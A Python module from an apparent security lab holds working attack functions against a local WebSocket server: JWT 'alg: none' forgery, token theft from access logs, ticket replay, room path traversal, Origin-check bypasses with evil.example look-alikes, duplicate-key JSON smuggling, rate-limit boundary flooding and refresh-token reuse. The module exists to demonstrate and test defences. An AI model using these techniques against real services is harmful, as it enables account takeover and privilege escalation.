"""Attacks on a lab's own server: each is a function that says how far it came.

They succeed against ``Lab(security="naive")`` and fail against ``Lab(security="right")``. Nothing
leaves this machine: the lab listens on 127.0.0.1.
"""

from __future__ import annotations

import asyncio
import re
import time
from typing import Any, Final, Literal, NamedTuple
from urllib.parse import urlsplit

import httpx
import jwt
import msgspec
from websockets.asyncio.client import connect
from websockets.exceptions import InvalidStatus
from websockets.typing import Origin

from rtlab.client.tokens import Tokens
from rtlab.client.websocket_connection import WebSocketConnection
from rtlab.errors import ConnectFailed, RequestRefused, RtlabError
from rtlab.lab.lab import Lab
from rtlab.protocol.urls import parse_url

__all__ = [
    "Flood",
    "LogLeak",
    "StolenRefresh",
    "call_by_name",
    "double_key",
    "flood_at_boundary",
    "forge_token",
    "hear_staff",
    "log_in",
    "opens",
    "origins_admitted",
    "read_log",
    "refresh",
    "replay_ticket",
    "reuse_refresh_token",
    "token_from_log",
]

#: The lab's demonstration users; see `rtlab.server.auth.users`.
PASSWORDS: Final = {"ada": "analytical engine", "bob": "builder", "eve": "eavesdropper"}

#: Seconds that anything here may take.
PATIENCE: Final = 10.0


class Flood(NamedTuple):
    """What a server took of messages that came too fast.

    Parameters
    ----------
    taken : int
        Messages that were obeyed.
    sent : int
        All of them.
    seconds : float
        From before the first was sent until the last was answered: the server saw them in no more.
    """

    taken: int
    sent: int
    seconds: float

    def above(self, rate: float, burst: float) -> float:
        """Return by how many messages ``burst + rate · seconds`` was exceeded; below 0 it held."""
        return self.taken - burst - rate * self.seconds


class LogLeak(NamedTuple):
    """What an access log was worth.

    Parameters
    ----------
    line : str
        The victim's handshake as the log has it; what is long is cut.
    admitted : int
        Whether who read the log got in as the victim: 1 or 0.
    """

    line: str
    admitted: int


class StolenRefresh(NamedTuple):
    """What became of two who have the same refresh token.

    Parameters
    ----------
    story : list of (str, str)
        Who asked with which token, and what the server said.
    thief_lives, owner_lives : int
        Whether each still gets tokens in the end: 1 or 0.
    closed_with : int
        The close code of the owner's open connection; 0 while it is open.
    """

    story: list[tuple[str, str]]
    thief_lives: int
    owner_lives: int
    closed_with: int


async def log_in(lab: Lab, user: str) -> dict[str, Any]:
    """Return the answer to a login of a demonstration user: ``accessToken`` and ``refreshToken``."""
    return (await _post(lab, "token", {"user": user, "password": PASSWORDS[user]})).raise_for_status().json()


async def refresh(lab: Lab, token: str) -> httpx.Response:
    """Show a refresh token; return the server's answer."""
    return await _post(lab, "refresh", {"refreshToken": token})


async def read_log(lab: Lab) -> list[str]:
    """Return the server's access log, as who runs the server can."""
    async with _http(lab) as http:
        answer = await http.get(f"{lab.url}/log", headers={"Authorization": f"Bearer {lab.token}"})
    return answer.raise_for_status().json()


async def token_from_log(lab: Lab, way: Literal["query", "ticket"]) -> LogLeak:
    """Let Ada connect, read the log, and try to come in with what it holds.

    Parameters
    ----------
    lab : Lab
        Naive or right.
    way : {"query", "ticket"}
        How Ada's handshake proves who she is.
    """
    async with WebSocketConnection(lab.ws_url, auth=Tokens("ada", PASSWORDS["ada"], way=way)):
        line = [line for line in await read_log(lab) if "GET /ws" in line][-1]
    found = re.search(r"(token|ticket)=([^&\" ]+)", line)
    secret = found[0] if found else ""
    return LogLeak(re.sub(r"(=[\w-]{12})[\w.-]+", r"\1…", line), await opens(f"{lab.ws_url}?{secret}"))


async def forge_token(lab: Lab, user: str = "ada") -> int:
    """Come in with a token that nobody signed (``alg: none``); return 1 if the server believes it."""
    token = jwt.encode({"sub": user, "roles": ["staff"]}, "", "none")
    return await opens(lab.ws_url, {"Authorization": f"Bearer {token}"})


async def replay_ticket(lab: Lab) -> int:
    """Send what stood in the URL of Ada's handshake a second time; return 1 if that opens another."""
    proof = await Tokens("ada", PASSWORDS["ada"]).opening(parse_url(lab.ws_url))
    first, second = [await opens(f"{lab.ws_url}?ticket={proof.query['ticket']}") for _ in range(2)]
    if not first:
        raise RtlabError("expected a fresh ticket to open a connection, and it did not")
    return second


async def hear_staff(lab: Lab, room_id: str) -> str:
    """Let Eve, a guest, join a room by some name, and Ada speak among staff.

    Parameters
    ----------
    lab : Lab
        Naive or right.
    room_id : str
        What Eve asks for, such as ``"lobby/../staff"``.

    Returns
    -------
    str
        What Eve heard, or the code of her refusal.
    """
    heard: asyncio.Future[str] = asyncio.get_running_loop().create_future()
    eve = WebSocketConnection(lab.ws_url, auth=Tokens("eve", PASSWORDS["eve"]), max_reconnect_attempts=0)
    ada = WebSocketConnection(lab.ws_url, auth=Tokens("ada", PASSWORDS["ada"]))
    eve.on("chat", lambda message: heard.done() or heard.set_result(str(message.payload["text"])))
    async with asyncio.timeout(PATIENCE), eve:
        try:
            await eve.request("join_room", {"roomId": room_id})
        except RequestRefused as error:
            return error.code
        async with ada:
            await ada.request("join_room", {"roomId": "staff"})
            await ada.request("chat", {"text": "the key is under the mat"}, room_id="staff")
            return await heard


async def call_by_name(lab: Lab, name: str, user: str = "eve") -> str:
    """Send a message whose type is the name of something that no page should reach.

    Returns
    -------
    str
        What the server answered: its value, or the code of its refusal.
    """
    async with WebSocketConnection(lab.ws_url, auth=Tokens(user, PASSWORDS[user])) as conn:
        try:
            return str((await conn.request(name)).payload)
        except RequestRefused as error:
            return error.code


async def origins_admitted(lab: Lab, allowed: str = "") -> dict[str, int]:
    """Shake hands under origins that look like the lab's own; return origin → admitted, 1 or 0.

    The first is the lab's own, which must be let in; each of the others is a stranger's.

    Parameters
    ----------
    lab : Lab
        Naive or right.
    allowed : str
        An origin that it was told to let in, such as ``"http://lab.example"``: its look-alikes are
        tried too, by a prefix, a suffix, a subdomain and another scheme.
    """
    port = urlsplit(lab.url).port
    token = (await log_in(lab, "ada"))["accessToken"]
    origins = {
        "http://127.0.0.1:PORT": "the lab's own page",
        "null": "a sandboxed frame, or a file",
        "http://127.0.0.1.evil.example": "a name that begins right",
        "http://localhost.evil.example": "another",
        "http://127.0.0.1:PORT@evil.example": "a user in front of the host",
        "http://127.0.0.1:OTHER": "another port of this machine",
    }
    if allowed:
        scheme, _, host = allowed.partition("://")
        origins |= {
            f"{allowed}.evil.example": "the allowed name, and more",
            f"{scheme}://evil-{host}": "more, and the allowed name",
            f"{scheme}://evil.{host}": "a subdomain, perhaps a stranger's",
            f"{'http' if scheme == 'https' else 'https'}://{host}": "the other scheme",
        }
    headers = {"Authorization": f"Bearer {token}"}
    return {
        origin: await opens(
            lab.ws_url, headers, origin=origin.replace("PORT", str(port)).replace("OTHER", "1")
        )
        for origin in origins
    }


async def double_key(lab: Lab) -> int | str:
    """Order one tea by the first ``quantity`` of a message, and a thousand by its second.

    Returns
    -------
    int or str
        The quantity that arrived in the room, or the code of the refusal.
    """
    token = (await log_in(lab, "bob"))["accessToken"]
    order = '{"type":"order","id":"1","roomId":"shop","payload":{"item":"tea","quantity":1,"quantity":1000}}'
    headers = {"Authorization": f"Bearer {token}"}
    async with asyncio.timeout(PATIENCE), connect(lab.ws_url, additional_headers=headers, proxy=None) as ws:
        await ws.send('{"type":"join_room","id":"0","payload":{"roomId":"shop"}}')
        await ws.send(order)
        while True:
            message = msgspec.json.decode(await ws.recv())
            if message["type"] == "order":
                return int(message["payload"]["quantity"])
            if message["type"] == "error":
                return str(message["payload"]["code"])


async def flood_at_boundary(lab: Lab, burst: int = 150) -> Flood:
    """Send two bursts, just before and just after a full second of the server's clock.

    Parameters
    ----------
    lab : Lab
        On this machine: its clock is ours.
    burst : int
        Messages of each; the batch that they come in is one more.
    """
    taken, began = 0, None
    items = [{"type": "pong"}] * burst
    async with asyncio.timeout(PATIENCE), WebSocketConnection(lab.ws_url, auth=_bob()) as conn:
        for phase in (0.90, 0.04):
            await asyncio.sleep((phase - time.monotonic()) % 1.0)
            began = began or time.monotonic()
            try:
                answer = await conn.request("batch", items)
            except RequestRefused:
                continue
            taken += 1 + sum(result["ok"] for result in answer.payload["results"])
        assert began is not None
        return Flood(taken, 2 * (1 + burst), time.monotonic() - began)


async def reuse_refresh_token(lab: Lab) -> StolenRefresh:
    """Let a thief copy Bob's refresh token and use it first; Bob comes second, with the same."""
    mine = await log_in(lab, "bob")
    story: list[tuple[str, str]] = []
    closed = asyncio.get_running_loop().create_future()

    async def ask(who: str, name: str, token: str) -> str:
        answer = await refresh(lab, token)
        ok = answer.status_code == 200
        story.append((who, f"{name}: {'new tokens' if ok else answer.json()['error']['code']}"))
        return str(answer.json()["refreshToken"]) if ok else token

    def name_of(token: str) -> str:
        return "the same token, again" if token == mine["refreshToken"] else "the newest token"

    auth = Tokens(access_token=mine["accessToken"])
    async with WebSocketConnection(lab.ws_url, auth=auth, max_reconnect_attempts=0) as conn:
        conn.on("disconnected", lambda event: closed.done() or closed.set_result(event.code))
        theirs = await ask("thief", "the stolen token", mine["refreshToken"])
        ours = await ask("owner", "the same token", mine["refreshToken"])
        await ask("thief", name_of(theirs), theirs)
        await ask("owner", name_of(ours), ours)
        await asyncio.wait((closed,), timeout=0.6)  # the server looks four times a second
        code = closed.result() if closed.done() else 0
    lives = [int(answer.endswith("new tokens")) for _, answer in story[-2:]]
    return StolenRefresh(story, lives[0], lives[1], code)


def _bob() -> Tokens:
    return Tokens("bob", PASSWORDS["bob"])


def _http(lab: Lab) -> httpx.AsyncClient:
    return httpx.AsyncClient(timeout=PATIENCE, verify=True if lab.ssl is None else lab.ssl)


async def _post(lab: Lab, what: str, body: dict[str, str]) -> httpx.Response:
    async with _http(lab) as http:
        return await http.post(f"{lab.url}/api/auth/{what}", json=body)


async def opens(url: str, headers: dict[str, str] | None = None, origin: str | None = None) -> int:
    """Shake hands; return 1 if the server lets us in, 0 if it says 401 or 403.

    Parameters
    ----------
    url : str
        ``ws://…``.
    headers : dict, optional
        Of the handshake.
    origin : str, optional
        What a browser would add.
    """
    given = Origin(origin) if origin is not None else None
    try:
        async with (
            asyncio.timeout(PATIENCE),
            connect(url, additional_headers=headers, origin=given, proxy=None) as ws,
        ):
            await ws.recv()
            return 1
    except InvalidStatus as error:
        if error.response.status_code not in (401, 403):
            raise RtlabError(f"expected 101, 401 or 403, got {error.response.status_code}") from error
        return 0
    except ConnectFailed:
        return 0
